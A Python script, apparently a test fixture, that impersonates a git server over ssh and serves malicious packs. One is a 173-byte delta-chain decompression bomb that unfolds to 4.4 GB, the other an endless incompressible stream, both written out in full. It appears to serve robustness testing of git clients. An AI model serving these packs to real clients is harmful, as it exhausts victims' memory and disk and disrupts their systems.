# SPDX-License-Identifier: Apache-2.0
"""Replaces ssh and git upload-pack, and sends a malicious pack.

GIT_SSH_COMMAND names this file with a kind of pack: `bomb`, whose 173 bytes unfold to 4.4 GB, or `flood`, which is
endless.
"""

import hashlib
import os
import signal
import struct
import sys
import zlib

kind = sys.argv[1]
out, source = sys.stdout.buffer, sys.stdin.buffer


def size(number, bits, lead=0):
    """A number encoded as in pack entries and deltas: lowest bits first, seven per byte after the first."""
    data, byte, number = b"", lead | number & (1 << bits) - 1, number >> bits
    while number:
        data += bytes([byte | 0x80])
        byte, number = number & 0x7F, number >> 7
    return data + bytes([byte])


def bomb():
    """A blob of zeros, a delta that repeats it 255 times, and one that repeats that 264 times."""
    lengths = [1 << 16, 255 << 16, 264 * (255 << 16)]
    copies = [b"\x80" * 255, (b"\xf0" + struct.pack("<I", lengths[1])[:3]) * 264]
    entries = [size(lengths[0], 4, 3 << 4) + zlib.compress(bytes(lengths[0]), 9)]
    for level, copy in enumerate(copies):
        delta = size(lengths[level], 7) + size(lengths[level + 1], 7) + copy
        entries.append(size(len(delta), 4, 6 << 4) + bytes([len(entries[-1])]) + zlib.compress(delta, 9))
        assert len(entries[-2]) < 128
    pack = b"PACK" + struct.pack(">II", 2, len(entries)) + b"".join(entries)
    return pack + hashlib.sha1(pack).digest()


def flood():
    """The start of an endless pack with an incompressible blob of 64 GB."""
    yield b"PACK" + struct.pack(">II", 2, 1) + size(1 << 36, 4, 3 << 4)
    compressor = zlib.compressobj(0)
    noise = os.urandom(1 << 20)
    while True:
        yield compressor.compress(noise)


def packet(text):
    return b"%04x" % (len(text) + 4) + text


def listing():
    reference = b"1" * 40 + b" refs/heads/main\0ofs-delta\n"
    return packet(reference) + b"0000"


def read_request():
    while True:
        length = int(source.read(4) or b"0", 16)
        if length == 0:
            if not source.peek(1):
                sys.exit(0)
            continue
        if source.read(length - 4).startswith(b"done"):
            return


signal.signal(signal.SIGPIPE, signal.SIG_DFL)
out.write(listing())
out.flush()
read_request()
out.write(packet(b"NAK\n"))
if kind == "bomb":
    out.write(bomb())
    out.flush()
else:
    for part in flood():
        out.write(part)
